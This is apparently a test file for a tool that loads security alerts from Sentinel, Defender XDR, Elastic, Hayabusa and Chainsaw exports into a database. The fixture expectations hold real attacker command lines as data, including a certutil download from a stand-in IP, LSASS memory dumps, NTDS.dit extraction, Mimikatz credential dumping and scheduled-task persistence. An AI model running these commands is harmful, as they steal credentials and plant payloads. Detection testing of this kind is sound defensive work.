import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Database } from '../pipeline/db.js';
import { planFile } from '../pipeline/load/detect.js';
import { loadFiles } from '../pipeline/load/load-files.js';
import { FIXTURES, memoryDb, tempDir } from './helpers.js';

/** Hand-written alert exports, one folder per source (test/fixtures/alerts/README.md). */
const ALERTS = join(FIXTURES, 'alerts');
const ENTITY_COLUMNS = 'alert_id, ts::VARCHAR AS ts, alert_name, severity, host, host_fqdn, user_name, logon_id, process_id, command_line, source';

describe('alerts from where users have them', () => {
  let db: Database;
  beforeEach(async () => {
    db = await memoryDb();
  });
  afterEach(() => db.close());

  const load = (...inputs: string[]) => loadFiles(db, { inputs: inputs.map((i) => join(ALERTS, i)), format: 'auto' });
  const alertsOf = (source: string) => db.all(`SELECT ${ENTITY_COLUMNS} FROM alerts WHERE source = $1 ORDER BY ts`, [source]);
  const rejects = () => db.all<{ file: string; line: number; reason: string }>(`SELECT regexp_extract(file, '[^/]+$') AS file, line::INTEGER AS line, reason FROM rejects ORDER BY file, line`);

  it('--format auto picks the right mapping for every fixture, CSV and JSON alike', () => {
    const expected: Record<string, string> = {
      'SecurityAlert.json': 'securityalert', 'SecurityAlert-portal-export.csv': 'securityalert',
      'AlertInfo.csv': 'xdr-alerts', 'AlertEvidence.csv': 'xdr-alerts',
      'elastic-security-alerts.ndjson': 'elastic-alerts',
      'hayabusa-timeline.csv': 'hayabusa', 'hayabusa-timeline.jsonl': 'hayabusa',
      'chainsaw-hunt.jsonl': 'chainsaw', 'sigma.csv': 'chainsaw',
    };
    const planned: Record<string, string> = {};
    for (const dir of readdirSync(ALERTS, { withFileTypes: true }).filter((d) => d.isDirectory())) {
      for (const name of readdirSync(join(ALERTS, dir.name))) {
        const plan = planFile(join(ALERTS, dir.name, name), 'auto');
        planned[name] = plan.kind === 'telemetry' ? plan.format : plan.kind;
      }
    }
    expect(planned).toEqual(expected);
  });

  it('sentinel SecurityAlert: entities from Entities ($ref left unresolved is fine), ExtendedProperties, CompromisedEntity', async () => {
    const s = await load('sentinel');
    const byName = Object.fromEntries(s.files.map((f) => [f.file.split('/').pop(), f]));
    expect(byName['SecurityAlert.json']).toMatchObject({ format: 'securityalert', read: 4, rejected: 2, skipped: 0, duplicates: 0, loaded: { alerts: 2 } });
    expect(byName['SecurityAlert-portal-export.csv']).toMatchObject({ format: 'securityalert', read: 1, rejected: 0, loaded: { alerts: 1 } });
    expect(await alertsOf('securityalert')).toEqual([
      // The host is defined inside the account entity and referred to by $ref at the top level.
      {
        alert_id: '7b1d4c52-3f0e-4a8b-9d6e-2c5f8a1b0e01', ts: '2024-05-14 09:12:03.123', alert_name: 'Suspicious PowerShell command line', severity: 'high',
        host: 'ws-fin-07', host_fqdn: 'ws-fin-07', user_name: 'jdoe', logon_id: '0x5a3f21', process_id: 6212,
        command_line: 'powershell.exe -nop -w hidden -enc SQBFAFgA', source: 'securityalert',
      },
      // Defender for Cloud: no host entity; ExtendedProperties name the host, user, session and process.
      {
        alert_id: '2517482019999999999_8c3a1e5b-6b7d-4d8e-9f01-000000000002', ts: '2024-05-14 09:58:10', alert_name: 'Suspicious download using Certutil detected',
        severity: 'medium', host: 'srv-app-02', host_fqdn: 'srv-app-02', user_name: 'svc_app', logon_id: '0x3e7', process_id: 0x1a2c,
        command_line: 'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe', source: 'securityalert',
      },
      // CSV export: the account is nested in the process entity; hex process id.
      {
        alert_id: 'c0ffee00-0000-4000-8000-000000000005', ts: '2024-05-15 02:07:44', alert_name: 'NTDS.dit file extraction', severity: 'high',
        host: 'dc01', host_fqdn: 'dc01', user_name: 'adm_kim', logon_id: '0x8d21f', process_id: 0x2f4,
        command_line: 'ntdsutil.exe "ac i ntds" ifm "create full c:\\temp" q q', source: 'securityalert',
      },
    ]);
    expect(await rejects()).toEqual([
      { file: 'SecurityAlert.json', line: 3, reason: 'missing host (Entities[host].HostName / ExtendedProperties.Compromised Host / CompromisedEntity)' },
      { file: 'SecurityAlert.json', line: 4, reason: 'missing ts (StartTime / TimeGenerated / EndTime)' },
    ]);
  });

  it('defender XDR: AlertInfo joined with its AlertEvidence rows by AlertId, in either file order', async () => {
    const s = await loadFiles(db, { inputs: [join(ALERTS, 'xdr', 'AlertInfo.csv'), join(ALERTS, 'xdr', 'AlertEvidence.csv')], format: 'auto' });
    // Evidence rows merged into their alert count as duplicates of it: read = loaded + rejected + duplicates.
    expect(s.files.map((f) => [f.file.split('/').pop(), f.read, f.loaded.alerts, f.rejected, f.duplicates, f.skipped])).toEqual([
      ['AlertInfo.csv', 2, 1, 1, 0, 0],
      ['AlertEvidence.csv', 5, 1, 0, 4, 0],
    ]);
    const merged = await alertsOf('xdr-alertinfo');
    expect(merged).toEqual([{
      alert_id: 'da638514002120000000_1111111111', ts: '2024-05-16 08:30:12', alert_name: 'Suspicious LSASS access', severity: 'high',
      host: 'ws-hr-03', host_fqdn: 'ws-hr-03.contoso.local', user_name: 'mlee', logon_id: '0x3f2a10', process_id: 7140,
      command_line: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full', source: 'xdr-alertinfo',
    }]);
    // Evidence whose AlertInfo row is not in the load: the alert from its evidence (its Title).
    expect(await alertsOf('xdr-alertevidence')).toEqual([{
      alert_id: 'da638514033330000000_3333333333', ts: '2024-05-16 10:05:00', alert_name: 'Suspicious service creation', severity: null,
      host: 'srv-web-01', host_fqdn: 'srv-web-01', user_name: null, logon_id: null, process_id: 3312,
      command_line: 'sc.exe create updsvc binPath= C:\\ProgramData\\upd.exe start= auto', source: 'xdr-alertevidence',
    }]);
    expect(await rejects()).toEqual([{ file: 'AlertInfo.csv', line: 3, reason: "missing host (DeviceName, in none of the alert's rows)" }]);

    // The evidence file first (the directory's sorted order): the same alerts.
    const other = await memoryDb();
    try {
      await loadFiles(other, { inputs: [join(ALERTS, 'xdr')], format: 'auto' });
      expect(await other.all(`SELECT ${ENTITY_COLUMNS} FROM alerts ORDER BY alert_id`)).toEqual(await db.all(`SELECT ${ENTITY_COLUMNS} FROM alerts ORDER BY alert_id`));
    } finally {
      other.close();
    }
  });

  it('elastic security alerts: nested and dotted kibana.alert.* documents, the source event time', async () => {
    const s = await load('elastic');
    expect(s.files[0]).toMatchObject({ format: 'elastic-alerts', read: 3, loaded: { alerts: 2 }, rejected: 1, skipped: 0, duplicates: 0 });
    expect(await alertsOf('elastic-alert')).toEqual([
      {
        alert_id: '3c6b1f0e7d2a4b59a8e1c0d9f2b7a6e51c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f', ts: '2024-05-17 12:00:02.118', alert_name: 'Whoami Process Activity',
        severity: 'low', host: 'ws-eng-11', host_fqdn: 'ws-eng-11.corp.example', user_name: 'asmith', logon_id: '0x8f2a11', process_id: 8840,
        command_line: 'whoami /priv', source: 'elastic-alert',
      },
      {
        alert_id: '9d8c7b6a5f4e3d2c1b0a99887766554433221100ffeeddccbbaa998877665544', ts: '2024-05-17 13:39:58.004',
        alert_name: 'Potential Credential Access via LSASS Memory Dump', severity: 'critical', host: 'srv-db-02', host_fqdn: 'srv-db-02',
        user_name: 'svc_db', logon_id: '0x3e7', process_id: 1212, command_line: 'procdump.exe -ma lsass.exe C:\\temp\\o.dmp', source: 'elastic-alert',
      },
    ]);
    expect(await rejects()).toEqual([{ file: 'elastic-security-alerts.ndjson', line: 3, reason: 'missing host (host.name / host.hostname)' }]);
  });

  it('hayabusa: CSV Details text and JSONL Details objects; local times with their offset', async () => {
    const s = await load('hayabusa');
    for (const f of s.files) expect(f).toMatchObject({ format: 'hayabusa', read: 3, loaded: { alerts: 2 }, rejected: 1, skipped: 0, duplicates: 0 });
    const rows = await alertsOf('hayabusa');
    expect(rows.map((r) => [r['ts'], r['alert_name'], r['severity'], r['host'], r['user_name'], r['logon_id'], r['process_id'], r['command_line']])).toEqual([
      ['2024-05-18 00:21:07.412', 'Suspicious Encoded PowerShell Command Line', 'high', 'ws-sales-04', 'bwong', '0x4a2f31', 7312, 'powershell -nop -w hidden -enc SQBFAFgA'],
      ['2024-05-18 00:40:12.003', 'Logon Failure (Wrong Password)', 'low', 'dc01', 'administrator', null, null, null],
      ['2024-05-18 01:02:44.87', 'Mimikatz Use', 'critical', 'ws-sales-04', 'bwong', '0x4a2f31', 6016, 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
      ['2024-05-18 01:15:30.5', 'RDP Logon', 'informational', 'srv-jump-01', 'adm_kim', '0x99aa12', null, null],
    ]);
    expect(await rejects()).toEqual([
      { file: 'hayabusa-timeline.csv', line: 4, reason: 'missing host (Computer)' },
      { file: 'hayabusa-timeline.jsonl', line: 3, reason: 'missing ts (Timestamp)' },
    ]);
  });

  it("hayabusa: a Details value of '-', 'N/A' or 'null' is no value (the text of the CSV's 'Key: value' pairs)", async () => {
    const file = join(tempDir(), 'hayabusa-blank.csv');
    writeFileSync(file, [
      'Timestamp,RuleTitle,Level,Computer,Channel,EventID,RecordID,Details,ExtraFieldInfo',
      '2024-05-18 00:21:07.412 +00:00,Proc Exec,high,WS-1,Sysmon,1,1,Cmdline: - ¦ User: - ¦ LID: - ¦ PID: -,-',
      '2024-05-18 00:22:07.412 +00:00,Proc Exec,high,WS-1,Sysmon,1,2,Cmdline:  N/A  ¦ User: CORP\\ann ¦ LID: 0x1f ¦ PID: 12,-',
      '2024-05-18 00:23:07.412 +00:00,Proc Exec,high,WS-1,Sysmon,1,3,Cmdline: whoami /all ¦ User: null ¦ LID: 0x1f ¦ PID: 13,-',
    ].join('\n') + '\n');
    const s = await loadFiles(db, { inputs: [file], format: 'hayabusa' });
    expect(s.files[0]).toMatchObject({ loaded: { alerts: 3 }, rejected: 0 });
    expect((await alertsOf('hayabusa')).map((r) => [r['user_name'], r['logon_id'], r['process_id'], r['command_line']])).toEqual([
      [null, null, null, null],
      ['ann', '0x1f', 12, null],
      [null, '0x1f', 13, 'whoami /all'],
    ]);
  });

  it('chainsaw: JSONL hits with their event, CSV with Event Data', async () => {
    const s = await load('chainsaw');
    const byName = Object.fromEntries(s.files.map((f) => [f.file.split('/').pop(), f]));
    expect(byName['chainsaw-hunt.jsonl']).toMatchObject({ format: 'chainsaw', read: 3, loaded: { alerts: 2 }, rejected: 1, skipped: 0 });
    expect(byName['sigma.csv']).toMatchObject({ format: 'chainsaw', read: 2, loaded: { alerts: 1 }, rejected: 1, skipped: 0 });
    const rows = await alertsOf('chainsaw');
    expect(rows.map((r) => [r['ts'], r['alert_name'], r['severity'], r['host'], r['user_name'], r['logon_id'], r['process_id'], r['command_line']])).toEqual([
      // Security 4688: the new process's id (NewProcessId), its creator's session (TargetLogonId 0x0 means none).
      ['2024-05-19 07:45:01.331', 'Suspicious Group And Account Reconnaissance Activity Using Net.EXE', 'medium', 'ws-ops-09', 'tnguyen', '0x6c1f02', 0x1d48, 'net  group "domain admins" /domain'],
      ['2024-05-19 07:47:12', 'Scheduled Task Creation', 'low', 'ws-ops-09', 'tnguyen', '0x6c1f02', 5400, 'schtasks /create /tn upd /tr C:\\ProgramData\\u.exe /sc minute /mo 1 /ru system'],
      ['2024-05-19 08:12:40', 'Mimikatz Use', null, 'ws-ops-09', 'tnguyen', '0x6c1f02', 6120, 'm.exe sekurlsa::logonpasswords'],
    ]);
    expect(await rejects()).toEqual([
      { file: 'chainsaw-hunt.jsonl', line: 3, reason: 'missing host (document.data.Event.System.Computer / Computer)' },
      { file: 'sigma.csv', line: 3, reason: 'missing ts (timestamp)' },
    ]);
  });

  it('loading the same alerts twice adds nothing (ids from the source\'s id, else its identifying fields)', async () => {
    const first = await loadFiles(db, { inputs: [ALERTS], format: 'auto' });
    expect(first.totals).toMatchObject({ read: 26, loaded: { alerts: 14 }, rejected: 8, duplicates: 4, skipped: 0 });
    const before = await db.all(`SELECT ${ENTITY_COLUMNS} FROM alerts ORDER BY alert_id`);
    const again = await loadFiles(db, { inputs: [ALERTS], format: 'auto' });
    expect(again.totals).toMatchObject({ read: 26, loaded: { alerts: 0 }, duplicates: 18, rejected: 8 });
    expect(await db.all(`SELECT ${ENTITY_COLUMNS} FROM alerts ORDER BY alert_id`)).toEqual(before);
  });

  it('a forced format reads its shape; the event mappings do not take alert rows', async () => {
    const s = await loadFiles(db, { inputs: [join(ALERTS, 'hayabusa', 'hayabusa-timeline.csv')], format: 'hayabusa' });
    expect(s.files[0]).toMatchObject({ format: 'hayabusa', loaded: { alerts: 2, process_events: 0, logon_events: 0 } });
    const asEvents = await loadFiles(db, { inputs: [join(ALERTS, 'hayabusa', 'hayabusa-timeline.csv')], format: 'winevent' });
    expect(asEvents.files[0]).toMatchObject({ loaded: { alerts: 0, process_events: 0, logon_events: 0 } });
  });
});
